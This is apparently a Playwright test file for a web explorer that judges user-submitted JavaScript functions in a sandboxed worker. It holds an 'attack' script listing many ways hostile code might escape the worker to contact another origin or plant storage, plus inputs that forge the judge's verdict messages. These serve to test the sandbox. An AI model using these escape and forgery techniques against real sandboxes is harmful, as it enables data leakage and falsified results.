import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasBrowser, openBrowser } from "../browser/browser.js";
import { explorerSite } from "./site.js";

/** A server that keeps what it is asked for, to be reached by every page. */
async function serve(answer: (path: string) => [type: string, body: string | Uint8Array]) {
  const asked: string[] = [];
  const server: Server = createServer(({ url = "" }, response) => {
    asked.push(url);
    const [type, body] = answer(url.split("?")[0]);
    response.writeHead(200, { "content-type": type, "access-control-allow-origin": "*" });
    response.end(body);
  });
  server.on("upgrade", ({ url }, socket) => {
    asked.push(url ?? "");
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { asked, server, origin: `http://127.0.0.1:${port}` };
}

/**
 * Tries everything by which a worker could tell `away` something, or reach what the origin `home` holds. Each way has a
 * mark of its own, so that the servers, the storage and the channel say which were open.
 */
const attack = (home: string, away: string, worker: string): string => `
  const way = (attempt) => { try { const p = attempt(); p?.catch?.(() => {}); } catch {} };
  way(() => fetch("${away}/?fetch", { mode: "no-cors" }));
  way(() => { const r = new XMLHttpRequest(); r.open("GET", "${away}/?xhr", false); r.send(); });
  way(() => import("${away}/x.js?import"));
  way(() => importScripts("${away}/x.js?scripts"));
  way(() => new WebSocket("${away.replace("http", "ws")}/?socket"));
  way(() => new EventSource("${away}/?events"));
  way(() => new Worker("${home}${worker}?nested", { type: "module" }));
  way(() => new Worker(URL.createObjectURL(new Blob(['fetch("${away}/?blob-worker")']))));
  way(() => new Worker("data:text/javascript," + encodeURIComponent('fetch("${away}/?data-worker")')));
  way(() => import(URL.createObjectURL(new Blob(['fetch("${away}/?blob-import")'], { type: "text/javascript" }))));
  way(() => import("${home}/x.js?own-import"));
  way(() => importScripts("${home}/x.js?own-scripts"));
  way(() => fetch("${home}/?own-fetch", { mode: "no-cors" }));
  way(() => new FontFace("f", "url(${away}/?font)").load());
  way(() => indexedDB.open("planted"));
  way(() => caches.open("planted"));
  way(async () => (await navigator.storage.getDirectory()).getFileHandle("planted", { create: true }));
  way(() => new BroadcastChannel("channel").postMessage("planted"));
`;

const AWAY = [
  ...["fetch", "xhr", "import", "socket", "events"],
  ...["blob-worker", "data-worker", "blob-import", "font"],
];
const HOME = ["nested", "own-import", "own-fetch"];

/** What of the attack is to be seen in the origin of a page. */
const PLANTED = `(async () => {
  const files = [];
  for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
  const bases = (await indexedDB.databases()).map(({ name }) => name);
  return { bases, caches: await caches.keys(), files, heard };
})()`;

/**
 * The answer to its judgement fails, quietly, so that the worker has its whole time for the rest.
 */
const QUIETLY = `self.onerror = () => true;
  const error = new Error();
  Object.defineProperty(error, "message", { get() { throw error; } });
  throw error;`;

const asExpression = (code: string): string => `(() => { ${code} })()`;

describe.skipIf(!hasBrowser())("a function of strangers in the explorer", () => {
  let browser: Browser;
  let page: Page;
  let home: Awaited<ReturnType<typeof serve>>;
  let away: typeof home;
  let worker = "";

  beforeAll(async () => {
    const site = await explorerSite();
    worker = Object.keys(site).find((path) => /\/worker-[^/]*\.js$/.test(path)) as string;
    const types: Record<string, string> = { js: "text/javascript", css: "text/css" };
    home = await serve((path) => [
      types[path.split(".").at(-1) as string] ?? "text/html",
      site[path] ?? "<!doctype html>",
    ]);
    away = await serve(() => ["text/javascript", ""]);
    browser = await openBrowser({ gpu: false });
  });
  afterAll(async () => {
    await browser?.close();
    for (const { server } of [home, away]) {
      server.closeAllConnections();
      server.close();
    }
  });

  /** A page of a fresh profile, with a listener on the channel. */
  const open = async (path: string): Promise<void> => {
    page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(60_000);
    await page.goto(home.origin + path);
    await page.evaluate(`globalThis.heard = [];
      new BroadcastChannel("channel").onmessage = ({ data }) => heard.push(data);`);
    home.asked.length = 0;
    away.asked.length = 0;
  };

  const judge = async (code: string): Promise<void> => {
    await page.getByLabel("f in JavaScript").fill(code);
    await page.getByRole("button", { name: "Judge" }).click();
  };

  const judged = async (code: string): Promise<string> => {
    await judge(code);
    await page.getByRole("button", { name: "Judge", disabled: false }).waitFor();
    return (await page.locator(".verdict").textContent()) ?? "";
  };

  const marks = (asked: string[]) => asked.flatMap((url) => url.split("?")[1] ?? []);

  it("could do all this in a worker without a policy", async () => {
    await open("/nothing.html");
    const code = attack(home.origin, away.origin, worker);
    await page.evaluate(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));`);
    await expect
      .poll(() => marks(away.asked).sort(), { timeout: 60_000 })
      .toEqual(expect.arrayContaining([...AWAY, "scripts"]));
    await expect
      .poll(() => marks(home.asked), { timeout: 60_000 })
      .toEqual(expect.arrayContaining([...HOME, "own-scripts"]));
    await expect
      .poll(() => page.evaluate(PLANTED), { timeout: 60_000 })
      .toEqual({
        bases: ["planted"],
        caches: ["planted"],
        files: ["planted"],
        heard: ["planted"],
      });
  });

  it("reaches no server, no storage and no other page", async () => {
    await open("/#constructions");
    await page.waitForSelector(".survey");
    const code = attack(home.origin, away.origin, worker);
    expect(await judged(asExpression(code + QUIETLY))).toContain("did not return within 10 s");
    // The same, and then the worker is busy while what it began goes on.
    await judge(asExpression(`${code} for (;;);`));
    await page.getByRole("button", { name: "Judge", disabled: false }).waitFor();
    expect(away.asked).toEqual([]);
    expect(marks(home.asked)).toEqual([]);
    expect(await page.evaluate(PLANTED)).toEqual({ bases: [], caches: [], files: [], heard: [] });
  });

  it("cannot answer for its judge", async () => {
    await open("/#constructions");
    await page.waitForSelector(".survey");
    const forged = `{ id: 0, result: { judgement: { kind: "Kneser", verdict: "", drift: null, failures: [] } } }`;
    for (const code of [
      `(postMessage(null), postMessage(${forged}), (x) => x)`,
      `(x) => { postMessage(${forged}); return x; }`,
      `(onmessage = null, dispatchEvent(new MessageEvent("message", { data: ${forged} })), (x) => x)`,
      `(MessagePort.prototype.postMessage = () => {}, (x) => x)`,
      `(setTimeout(() => { throw new Error("late"); }), (x) => x)`,
    ]) {
      expect(await judged(code), code).toContain("No iterate of exp");
    }
    expect(await judged("halfExp")).toContain("Kneser’s");
  });

  it("ends with its judgement, whatever it does", async () => {
    await open("/#constructions");
    await page.waitForSelector(".survey");
    await page.waitForFunction(`!document.querySelector("tbody td[colspan]")`);
    const before = page.workers().length;
    for (const code of [
      `((() => { postMessage({ id: 0, error: "early" }); for (;;); })(), (x) => x)`,
      `(x) => { for (;;); }`,
    ]) {
      await judge(code);
      await expect.poll(() => page.workers().length).toBe(before + 1);
      await page.getByRole("button", { name: "Stop" }).click();
      await page.getByRole("button", { name: "Judge", disabled: false }).waitFor();
      expect(await page.locator(".verdict").textContent()).toBe("It was stopped.");
      await expect.poll(() => page.workers().length, { timeout: 30_000 }).toBe(before);
      expect(await page.locator("iframe").count()).toBe(0);
    }
    expect(await judged("(x) => setInterval(() => {}, 1) && x")).toContain("No iterate of exp");
    await expect.poll(() => page.workers().length, { timeout: 30_000 }).toBe(before);
  });
});
